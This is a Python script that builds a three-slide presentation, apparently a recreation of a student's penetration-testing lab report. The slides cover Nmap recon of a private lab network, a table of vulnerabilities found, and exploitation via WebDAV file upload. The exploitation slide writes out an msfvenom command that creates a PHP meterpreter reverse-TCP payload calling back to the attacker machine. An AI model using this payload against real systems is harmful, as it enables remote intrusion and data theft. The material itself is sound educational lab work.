


from dataclasses import dataclass

from lxml import etree
from pptx import Presentation
from pptx import util as u
from pptx.dml.color import RGBColor
from pptx.enum import shapes, text
from pptx.oxml import ns


@dataclass(frozen=True)
class Theme:
    font: str = "Roboto"
    plain: str = "Arial"
    ink: str = "000000"
    white: str = "FFFFFF"
    rule: str = "595959"
    pale: str = "A9B7C0"
    slate: str = "78909C"
    head: str = "990000"
    lilac: str = "DBD9E8"
    red: str = "CC0000"
    card: str = "F3F3F3"
    title: int = 24
    tag: int = 21
    lead: int = 18
    body: int = 12
    note: int = 10
    hosts: tuple = (14, 12)
    flaws: tuple = (10, 8)
    line: float = 0.75


class Deck:
    def __init__(self, theme):
        self.theme = theme
        self.show = Presentation()
        self.show.slide_width = u.Inches(10)
        self.show.slide_height = u.Inches(10 * 9 / 16)
        self.slide = None

    def page(self, title, lead=None):
        t = self.theme
        self.slide = self.show.slides.add_slide(self.show.slide_layouts[6])
        self.rule(0.7, t.rule)
        self.rule(5.37, t.pale)
        self.label(title, (-0.01, 0, 10.03, 0.58), (0.5, 0.2, 0.3, 0.1), t.title)
        if lead:
            self.label(lead, (0, 0.74, 10, 0.4), (0.5, 0.1, 0.5, 0), t.lead)

    def rule(self, top, color):
        line = self.slide.shapes.add_connector(
            shapes.MSO_CONNECTOR.STRAIGHT,
            *map(u.Inches, (0.3, top, 9.7, top + 0.01)))
        line.line.color.rgb = RGBColor.from_string(color)
        line.line.width = u.Pt(self.theme.line)
        etree.SubElement(line._element.spPr, ns.qn("a:effectLst"))

    def style(self, frame, size, color=None, font=None, bold=False, italic=False):
        for para in frame.paragraphs:
            for run in para.runs:
                run.font.name = font or self.theme.font
                run.font.size = u.Pt(size)
                run.font.bold = bold
                run.font.italic = italic
                run.font.color.rgb = RGBColor.from_string(color or self.theme.ink)

    def inset(self, item, sides):
        names = ("margin_left", "margin_top", "margin_right", "margin_bottom")
        for name, side in zip(names, sides):
            setattr(item, name, u.Inches(side))

    def label(self, words, place, sides, size, font=None):
        frame = self.slide.shapes.add_textbox(*map(u.Inches, place)).text_frame
        frame.word_wrap = True
        frame.vertical_anchor = text.MSO_ANCHOR.TOP
        self.inset(frame, sides)
        frame.text = words
        self.style(frame, size, font=font)
        return frame

    def shape(self, kind, place, color, home=None):
        item = (home or self.slide).shapes.add_shape(kind, *map(u.Inches, place))
        item.shadow.inherit = False
        item.fill.solid()
        item.fill.fore_color.rgb = RGBColor.from_string(color)
        item.line.fill.background()
        return item

    def tag(self, words, left):
        t, kind = self.theme, shapes.MSO_SHAPE
        group = self.slide.shapes.add_group_shape()
        badge = self.shape(kind.ROUNDED_RECTANGLE, (left, 0.97, 0.58, 0.52), t.red, group)
        point = self.shape(kind.FLOWCHART_EXTRACT, (left + 0.15, 1.4, 0.29, 0.16), t.red, group)
        point.rotation = 180
        frame = badge.text_frame
        self.inset(frame, (0.1,) * 4)
        frame.vertical_anchor = text.MSO_ANCHOR.MIDDLE
        frame.text = words
        frame.paragraphs[0].alignment = text.PP_ALIGN.CENTER
        self.style(frame, t.tag, t.white)

    def card(self, words, left, width, height, headed):
        t = self.theme
        back = self.shape(shapes.MSO_SHAPE.ROUND_2_DIAG_RECTANGLE,
                          (left, 1.62, 2.66, height), t.card)
        back.adjustments[0] = 0
        back.adjustments[1] = 0.167
        frame = self.label(words, (left, 1.62, width, height), (0.2,) * 4, t.body)
        for para in frame.paragraphs:
            para.line_spacing = 1.15
        if headed:
            frame.paragraphs[0].runs[0].font.bold = True

    def edge(self, cell, color):
        props = cell._tc.get_or_add_tcPr()
        for spot, side in enumerate(("lnL", "lnR", "lnT", "lnB")):
            line = etree.Element(ns.qn("a:" + side), w=str(u.Pt(self.theme.line)))
            fill = etree.SubElement(line, ns.qn("a:solidFill"))
            etree.SubElement(fill, ns.qn("a:srgbClr"), val=color)
            props.insert(spot, line)

    def grid(self, rows, left, width, tall, sizes, color, hint=None):
        t = self.theme
        place = (left, 1.31, width * len(rows[0]), sum(tall))
        table = self.slide.shapes.add_table(
            len(rows), len(rows[0]), *map(u.Inches, place)).table
        table.first_row = table.horz_banding = False
        for col in table.columns:
            col.width = u.Inches(width)
        for r, row in enumerate(rows):
            table.rows[r].height = u.Inches(tall[r])
            top = r == 0
            for c, words in enumerate(row):
                cell = table.cell(r, c)
                self.inset(cell, (0.2, 0.1, 0.2, 0.1))
                cell.vertical_anchor = text.MSO_ANCHOR.MIDDLE if top else text.MSO_ANCHOR.TOP
                cell.text_frame.text = words
                self.style(cell.text_frame, sizes[0 if top else 1],
                           t.white if top else t.ink, bold=top, italic=r == hint)
                if top or c == 1:
                    cell.fill.solid()
                    cell.fill.fore_color.rgb = RGBColor.from_string(t.head if top else t.lilac)
                else:
                    cell.fill.background()
                self.edge(cell, color)


HOSTS = [
    ("Hostname", "IP Address", "Role on Network"),
    ("ELK (Kibana)", "192.168.1.100", "Data Collector"),
    ("Capstone", "192.168.1.105", "Target Machine"),
    ("Kali", "192.168.1.8", "Attacker Machine"),
    ("", "192.168.1.1", "Default Gateway"),
]

FLAWS = [
    ("Vulnerability", "Description", "Impact"),
    ("Use the CVE number if it exists. Otherwise, use the common name.",
     "Describe the vulnerability.",
     "Describe what this vulnerability allows the attacker to do."),
    ("Sensitive data exposure (OWASP Top 10-#3)",
     "The http directory pathway of the company site was modified to redirect the "
     "attacker to the secret_folder directory and provided access to a password file",
     "This vulnerability allows for sensitive, confidential data to be accessed and exposed"),
    ("Broken Access Control (OWASP Top 10-#5)",
     "An employee’s login credentials were leaked via a brute force attack",
     "The successful attack enables an attacker to log in to the company database system "
     "posing as the compromised employee and access sensitive information and potential "
     "cause harm to the employee and/or company database"),
    ("Unauthorized File Upload\n(Critical Vulnerability)",
     "Attackers are able to access the target machine via meterpreter session upload a "
     "payload file to tamper with the target machine and access sensitive data that could "
     "be copied over to the attacker machine",
     "The payload allows an attacker to obtain command and control over the target machine, "
     "potentially resulting in further sensitive data exposure"),
]

STEPS = [
    ("Tools & Processes\n"
     "Created a reverse_tcp shell php payload using meterpreter\n"
     "Inserted the payload shell into the company webdav server",
     0.5, 2.59, 3.45, True),
    ("Achievements\n"
     "The reverse shell was successfully executed and enabled me to establish a meterpreter "
     "session with the target machine, enabling me to search throughout the machine’s "
     "database and access any and all files and copy them over to my host machine",
     3.53, 2.66, 3.45, True),
    ("Created the reverse_tcp shell with the following command: msfvenom -p "
     "php/meterpreter/reverse_tcp lhost=192.168.1.8 lport=4444 >> reverse_shell.php",
     6.71, 2.61, 3.56, False),
]


def main():
    theme = Theme()
    deck = Deck(theme)

    deck.page("Recon: Describing the Target",
              "Nmap identified the following hosts on the network:")
    deck.label("Command used: nmap 192.168.1.0/24", (-0.01, 5.38, 8.72, 0.25),
               (0.3, 0.05, 0, 0), theme.note, theme.plain)
    deck.grid(HOSTS, 0.46, 3.04, [0.44] + [0.87] * 4, theme.hosts, theme.slate)

    deck.page("Vulnerability Assessment",
              "The assessment uncovered the following critical vulnerabilities in the target:")
    deck.grid(FLAWS, 0.51, 3.05, [0.43] + [0.84] * 4, theme.flaws, theme.pale, hint=1)

    deck.page("Exploitation: Unauthorized File Upload")
    for num, (words, left, width, height, headed) in enumerate(STEPS, 1):
        deck.tag(f"{num:02}", left)
        deck.card(words, left + 0.29, width, height, headed)

    deck.show.save("out.pptx")


if __name__ == "__main__":
    main()
